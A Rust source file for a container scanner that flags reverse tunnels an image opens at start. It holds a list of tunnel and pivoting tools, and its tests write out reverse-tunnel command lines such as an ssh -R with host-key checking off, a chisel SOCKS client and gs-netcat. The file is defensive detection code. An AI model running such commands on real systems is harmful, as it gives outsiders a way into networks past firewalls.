//! Tunnels: a way in that the container opens from inside, to somebody the image names.

use model::{Act, Behavior, Confidence, Rule, Severity, Value};

use super::orders::started;
use super::vocabulary::{as_sure_as_it_runs, is_loopback, is_odd_place};
use crate::{Detector, Reporter, Sign, Subject};

/// The detector.
pub struct Tunnel;

static RULE: Rule = Rule {
    id: "command/tunnel",
    title: "Opens a way in from outside",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &["T1572", "T1090"],
    what: "At its start the container opens a reverse tunnel to a host, or with an account, that the image itself names: ssh -R, clients of tunnel services with their secret on the command line, a SOCKS proxy that is dialled out.",
    why: "Whoever holds the other end gets into the container's network, past firewalls that look at incoming connections.",
    benign: "Images made for tunnels take the other end from their user: not reported.",
    next: "See who owns the other end. Block it if nobody can say.",
};

/// Clients of services that make something inside reachable from outside, and the options or words
/// behind which their secret or their server stands.
const CLIENTS: &[(&str, &[&str])] = &[
    ("ngrok", &["--authtoken", "authtoken"]),
    ("cloudflared", &["--token"]),
    (
        "frpc",
        &["-s", "--server_addr", "--server-addr", "-t", "--token"],
    ),
    ("chisel", &["client"]),
    ("bore", &["--to"]),
    ("rathole", &["--client"]),
    ("gs-netcat", &["-s", "-k"]),
    ("gs-sftp", &["-s"]),
    ("tmate", &["-k", "-F"]),
    ("sish", &[]),
    ("pagekite.py", &[]),
    ("inlets", &["--token", "--url"]),
    ("nps", &[]),
    ("npc", &["-server", "-vkey"]),
    ("ligolo-agent", &["-connect"]),
    ("agent", &["-connect"]),
    ("iox", &["-r"]),
    ("ew", &["-d"]),
    ("earthworm", &["-d"]),
    ("stowaway", &["-c"]),
    ("iodine", &["-P"]),
    ("dnscat", &["--dns", "--secret"]),
    ("dnscat2", &["--dns", "--secret"]),
    ("ptunnel", &["-p"]),
    ("localtonet", &["authtoken"]),
];

/// The value that stands behind one of `options`.
fn behind<'a>(arguments: &'a [Value], options: &[&str]) -> Option<&'a Value> {
    arguments.windows(2).find_map(|pair| match pair {
        [option, value] if options.contains(&option.text.as_str()) => Some(value),
        _ => None,
    })
}

/// The other end of `ssh -R`, if it forwards from there to here.
fn reverse_ssh(arguments: &[Value]) -> Option<&Value> {
    let mut forwards = false;
    let mut words = arguments.iter();
    let mut host = None;
    while let Some(word) = words.next() {
        let text = word.text.as_str();
        match text.strip_prefix('-') {
            Some(letters) if !letters.is_empty() => {
                // `-fNR port:host:port`
                let has_value = letters
                    .char_indices()
                    .find(|(_, letter)| "BbcDEeFIiJLlmOopQRSWw".contains(*letter));
                if let Some((at, letter)) = has_value {
                    forwards |= letter == 'R';
                    if at + 1 == letters.len() {
                        words.next();
                    }
                }
            }
            _ => {
                host.get_or_insert(word);
            }
        }
    }
    host.filter(|_| forwards)
}

/// A hidden service that leads to a login.
fn hidden_service(act: &Act) -> Option<(String, Confidence)> {
    let Behavior::Write { path, content, .. } = &act.behavior else {
        return None;
    };
    let to_login = content.text.lines().any(|line| {
        let mut words = line.split_whitespace();
        words.next() == Some("HiddenServicePort") && words.next() == Some("22")
    });
    (to_login && path.text.ends_with("torrc")).then(|| {
        let detail = "its login is a hidden service of Tor".to_owned();
        (detail, Confidence::Medium)
    })
}

/// Where a start opens a tunnel to, in words, and how sure that is nobody's own.
fn tunnel(program: &Value, arguments: &[Value]) -> Option<(String, Confidence)> {
    let name = program.base_name();
    if matches!(name, "ssh" | "autossh" | "dbclient") {
        let host = reverse_ssh(arguments)?;
        let is_named = host.known && !is_loopback(host);
        let unattended = arguments.iter().any(|word| {
            let text = word.text.as_str();
            text.contains("StrictHostKeyChecking=no")
                || text.contains("StrictHostKeyChecking no")
                || text == "-y"
        });
        let confidence = match (is_named, unattended) {
            (true, true) => Confidence::Medium,
            _ => Confidence::Low,
        };
        return Some((
            format!("{host} can log in to this container's network"),
            confidence,
        ));
    }
    // Under whatever name: no other program is given such words.
    let dials_out = arguments.first().is_some_and(|word| word.text == "client")
        && arguments.iter().any(|word| word.text.starts_with("R:"));
    let own = CLIENTS.iter().find(|(client, _)| *client == name);
    let (client, options) = match own {
        None if dials_out => CLIENTS.iter().find(|(client, _)| *client == "chisel")?,
        own => own?,
    };
    if *client == "chisel" && !dials_out {
        return None;
    }
    let other = behind(arguments, options)?;
    let confidence = match () {
        () if !other.known => Confidence::Low,
        () if is_odd_place(&program.text) || program.fetched_from().is_some() => Confidence::High,
        // Made for nothing but to get into somebody else's network.
        () if matches!(
            *client,
            "gs-netcat"
                | "dnscat"
                | "dnscat2"
                | "ligolo-agent"
                | "ew"
                | "earthworm"
                | "stowaway"
                | "iox"
        ) =>
        {
            Confidence::High
        }
        () => Confidence::Medium,
    };
    Some((
        format!("{name} makes it reachable from outside, with what the image names"),
        confidence,
    ))
}

impl Detector<Subject<'_>> for Tunnel {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn detect(&self, subject: &Subject<'_>, reporter: &mut Reporter<'_>) {
        for act in &subject.program.acts {
            let started = started(act);
            let tunnel = started.and_then(|(program, arguments)| tunnel(program, arguments));
            let Some((detail, confidence)) = tunnel.or_else(|| hidden_service(act)) else {
                continue;
            };
            let confidence = match subject.runs_by_itself() {
                true => as_sure_as_it_runs(subject, confidence),
                false => Confidence::Low,
            };
            reporter.act(
                act,
                Sign::new(format!("Opens a tunnel: {detail}.")).confidence(confidence),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use model::Stream;

    use super::*;
    use crate::technique::check::{execute, findings};

    fn run(line: &str) -> usize {
        let words: Vec<&str> = line.split(' ').collect();
        findings(
            &Tunnel,
            &[execute(words[0], &words[1..], Stream::Inherited)],
        )
        .len()
    }

    #[test]
    fn tunnels_to_who_the_image_names_hit() {
        assert_eq!(
            run("ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@192.0.2.1"),
            1
        );
        assert_eq!(run("ngrok tcp 22 --authtoken 2abc"), 1);
        assert_eq!(run("chisel client 192.0.2.1:8080 R:socks"), 1);
        assert_eq!(run("gs-netcat -s 5ecret -l -i"), 1);
    }

    #[test]
    fn tunnels_of_the_user_miss() {
        assert_eq!(
            run("ssh -o StrictHostKeyChecking=no -L 5432:db:5432 t@192.0.2.1"),
            0
        );
        assert_eq!(run("ssh -N -R 80:localhost:8080 example.com"), 0);
        assert_eq!(run("cloudflared tunnel run"), 0);
        assert_eq!(run("chisel server -p 8080"), 0);
        let token = model::Provenance::Environment("TUNNEL_TOKEN".to_owned());
        let act = model::Behavior::Execute {
            program: Value::literal("cloudflared"),
            arguments: vec![Value::literal("--token"), Value::unknown(token)],
            input: Stream::Inherited,
            output: Stream::Inherited,
        };
        assert!(findings(&Tunnel, &[act]).is_empty());
    }
}
